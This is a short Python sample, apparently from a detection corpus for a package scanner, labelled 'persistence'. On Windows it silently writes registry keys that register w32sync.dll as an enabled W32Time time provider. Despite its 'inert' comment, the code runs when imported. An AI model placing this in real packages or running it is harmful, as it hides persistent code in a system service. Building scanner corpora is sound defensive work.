# pkgguard corpus 775 (persistence), modelled on [taxonomy]; inert, never run.
import subprocess
import sys

_KEY = r"HKLM\SYSTEM\CurrentControlSet\Services\W32Time\TimeProviders\NtpSync"

if sys.platform == "win32":
    for args in (
        ["reg", "add", _KEY, "/v", "DllName", "/t", "REG_EXPAND_SZ", "/d", r"%SystemRoot%\System32\w32sync.dll", "/f"],
        ["reg", "add", _KEY, "/v", "Enabled", "/t", "REG_DWORD", "/d", "1", "/f"],
        ["reg", "add", _KEY, "/v", "InputProvider", "/t", "REG_DWORD", "/d", "1", "/f"],
    ):
        subprocess.run(args, capture_output=True)
